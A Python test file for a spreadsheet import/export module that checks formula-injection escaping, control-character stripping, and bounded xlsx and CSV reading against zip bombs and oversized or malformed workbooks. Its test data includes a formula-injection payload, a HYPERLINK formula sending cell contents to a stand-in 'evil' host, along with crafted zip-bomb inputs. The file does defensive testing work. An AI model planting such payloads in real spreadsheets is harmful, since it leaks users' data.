"""Spreadsheet cells: formulas are never run, escaping round-trips."""

from __future__ import annotations

import datetime as dt
import io
import re
import zipfile

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.worksheet._reader import WorkSheetParser

from fangkong.core.errors import DomainError
from fangkong.core.spreadsheet import (
    csv_rows,
    formula_safe,
    formula_unescape,
    has_control_characters,
    xlsx_rows,
    xml_safe,
)

DANGEROUS = [
    '=HYPERLINK("http://evil/?"&A2,"x")',
    "+1+2",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", DANGEROUS)
def test_formula_prefixes_are_escaped(text: str) -> None:
    assert formula_safe(text).startswith("'")


@pytest.mark.parametrize(
    "text", [*DANGEROUS, "张三", "'", "''", "'=x", "'abc", "", "桐乡市乌镇镇", "a=b"]
)
def test_escaping_round_trips(text: str) -> None:
    assert formula_unescape(formula_safe(text)) == xml_safe(text)


def test_plain_values_pass_through() -> None:
    assert formula_safe("张三") == "张三"
    assert formula_safe(12) == 12
    assert formula_safe(None) is None
    day = dt.date(2022, 7, 1)
    assert formula_safe(day) == day


def test_control_characters_are_dropped() -> None:
    assert formula_safe("a\x00b\x1fc\td\ne\x7f") == "abc\td\ne"


@pytest.mark.parametrize("text", ["\x00", "a\x01", "\x0b", "\x0c", "b\x1f", "\x7f"])
def test_the_control_characters_refused_at_input_are_those_an_export_drops(text: str) -> None:
    # One pattern: what an input refuses is exactly what an export would drop.
    assert has_control_characters(text)
    assert not has_control_characters(xml_safe(text))


def test_tab_and_line_breaks_are_text() -> None:
    assert not has_control_characters("一楼\t二楼\r\n三楼")


def test_an_escaped_cell_is_stored_as_text_not_a_formula() -> None:
    wb = Workbook()
    ws = wb.active
    ws.append([formula_safe(t) for t in DANGEROUS])
    buffer = io.BytesIO()
    wb.save(buffer)
    cells = next(load_workbook(io.BytesIO(buffer.getvalue())).active.iter_rows())
    assert all(c.data_type == "s" for c in cells)
    # XML stores a carriage return as a line feed; every other value comes back as written.
    assert [formula_unescape(c.value) for c in cells][:-1] == DANGEROUS[:-1]
    assert cells[-1].value.startswith("'")


# --- the one bounded reader of uploads ------------------------------------------------

SST_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"
BOUNDS = {
    "max_bytes": 1_000_000,
    "max_unpacked": 2_000_000,
    "max_read_whole": 100_000,
    "max_rows": 100,
    "max_columns": 10,
    "max_empty_rows": 50,
}


def _workbook(rows: list[list[object]]) -> bytes:
    wb = Workbook()
    for row in rows:
        wb.active.append(row)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def _rewrite(data: bytes, edit: dict[str, object], extra: dict[str, bytes] | None = None) -> bytes:
    """The workbook with some parts' XML edited (name -> function) and parts added."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as src,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst,
    ):
        for info in src.infolist():
            content = src.read(info.filename)
            if info.filename in edit:
                content = edit[info.filename](content.decode()).encode()  # type: ignore[operator]
            dst.writestr(info.filename, content)
        for name, content in (extra or {}).items():
            dst.writestr(name, content)
    return out.getvalue()


def _read(data: bytes, **bounds: int) -> list[tuple[int, tuple[object, ...]]]:
    return list(xlsx_rows(data, **{**BOUNDS, **bounds}))


def _refused(data: bytes, **bounds: int) -> DomainError:
    with pytest.raises(DomainError) as exc:
        _read(data, **bounds)
    return exc.value


def test_rows_are_read_unescaped_and_empty_rows_skipped() -> None:
    data = _workbook([["条码", "结果"], [], ["'=T1", "阴性"], ["T2", None]])
    assert _read(data) == [(1, ("条码", "结果")), (3, ("=T1", "阴性")), (4, ("T2",))]


def test_a_declared_dimension_is_ignored() -> None:
    sheet = "xl/worksheets/sheet1.xml"
    data = _rewrite(
        _workbook([["a", "b"], ["c", "d"]]),
        {sheet: lambda xml: re.sub(r'<dimension ref="[^"]*"', '<dimension ref="A1:XFD12000"', xml)},
    )
    assert b"A1:XFD12000" in zipfile.ZipFile(io.BytesIO(data)).read(sheet)
    assert _read(data) == [(1, ("a", "b")), (2, ("c", "d"))]


def test_a_zip_bomb_is_refused_from_the_directory() -> None:
    # 3 MB of zeros in a part nobody reads compresses to a few KB
    data = _rewrite(_workbook([["a"]]), {}, {"xl/media/padding.bin": b"\0" * 3_000_000})
    assert len(data) < 20_000
    error = _refused(data)
    assert (error.code, error.status) == ("import_file_too_large", 413)
    assert error.detail == {"max_unpacked_bytes": 2_000_000}


def test_shared_strings_under_another_name_are_still_bounded() -> None:
    # openpyxl finds the shared strings by content type: a part renamed and declared as
    # such is read whole on opening, so it counts, whatever its name.
    strings = (
        b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        + b"".join(b"<si><t>s%d</t></si>" % i for i in range(20_000))
        + b"</sst>"
    )
    types = "[Content_Types].xml"
    override = f'<Override PartName="/xl/renamed.xml" ContentType="{SST_TYPE}"/></Types>'
    data = _rewrite(
        _workbook([["a"]]),
        {types: lambda xml: xml.replace("</Types>", override)},
        {"xl/renamed.xml": strings},
    )
    error = _refused(data)
    assert (error.code, error.detail) == (
        "import_file_too_large",
        {"max_read_whole_bytes": 100_000},
    )
    # and the same file is read when the bound allows it
    assert _read(data, max_read_whole=1_000_000) == [(1, ("a",))]


def test_styles_bloated_past_the_bound_are_refused() -> None:
    xf = '<xf numFmtId="0" fontId="0" fillId="0" borderId="0"/>'
    data = _rewrite(
        _workbook([["a"]]),
        {"xl/styles.xml": lambda xml: xml.replace("</cellXfs>", xf * 5_000 + "</cellXfs>")},
    )
    assert _refused(data).detail == {"max_read_whole_bytes": 100_000}


def test_too_many_rows_stop_at_the_first_row_past_the_bound() -> None:
    error = _refused(_workbook([[n] for n in range(101)]))
    assert (error.code, error.detail) == ("import_too_many_rows", {"line": 101, "max_rows": 100})
    assert len(_read(_workbook([[n] for n in range(100)]))) == 100


def test_a_far_row_is_refused_after_the_empty_rows_allowed() -> None:
    sheet = "xl/worksheets/sheet1.xml"
    far = '<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>x</t></is></c></row>'
    data = _rewrite(
        _workbook([["a"]]), {sheet: lambda xml: xml.replace("</sheetData>", far + "</sheetData>")}
    )
    error = _refused(data)
    assert (error.code, error.detail["line"]) == ("import_too_many_rows", 52)


def test_a_value_right_of_the_column_bound_is_refused() -> None:
    error = _refused(_workbook([["a"], [None] * 10 + ["x"]]))
    assert (error.code, error.detail) == (
        "import_too_many_columns",
        {"line": 2, "max_columns": 10},
    )
    # an empty string right of the bound is not a value
    assert _read(_workbook([["a"] + [""] * 20])) == [(1, ("a",) + (None,) * 9)]


def test_a_giant_row_is_refused_before_openpyxl_builds_it(monkeypatch: pytest.MonkeyPatch) -> None:
    # 100,000 cells in one row: openpyxl would hold the whole row element in memory
    sheet = "xl/worksheets/sheet1.xml"
    cells = "<c><v>1</v></c>" * 100_000
    data = _rewrite(
        _workbook([["a"]]),
        {sheet: lambda xml: xml.replace("<sheetData>", f"<sheetData><row>{cells}</row>")},
    )
    assert len(data) < 50_000
    built: list[int] = []
    parse_row = WorkSheetParser.parse_row
    monkeypatch.setattr(
        WorkSheetParser, "parse_row", lambda self, row: built.append(1) or parse_row(self, row)
    )

    error = _refused(data)

    assert (error.code, error.detail["line"]) == ("import_too_many_columns", 1)
    assert built == []  # refused by the streaming pass: openpyxl never held the row
    assert _read(_workbook([["a"]])) == [(1, ("a",))] and built == [1]


@pytest.mark.parametrize(
    "junk", [b"", b"hello", b"PK\x03\x04 truncated", b"PK\x05\x06" + b"\0" * 18]
)
def test_what_is_not_a_workbook_is_invalid(junk: bytes) -> None:
    assert _refused(junk).code == "import_file_invalid"


def test_a_file_over_the_byte_bound_is_refused_unread() -> None:
    error = _refused(b"PK" + b"\0" * 1_000_000)
    assert (error.code, error.status, error.detail) == (
        "import_file_too_large",
        413,
        {"max_bytes": 1_000_000},
    )


def test_a_csv_field_over_the_limit_is_refused_with_its_line() -> None:
    text = 'a,b\nc,"' + "x" * 131_073 + '"\n'
    with pytest.raises(DomainError) as exc:
        list(csv_rows(io.StringIO(text, newline="")))
    assert (exc.value.code, exc.value.detail) == ("import_field_too_large", {"line": 2})
    assert list(csv_rows(io.StringIO("a,b\r\nc,d\r\n", newline=""))) == [
        (1, ["a", "b"]),
        (2, ["c", "d"]),
    ]
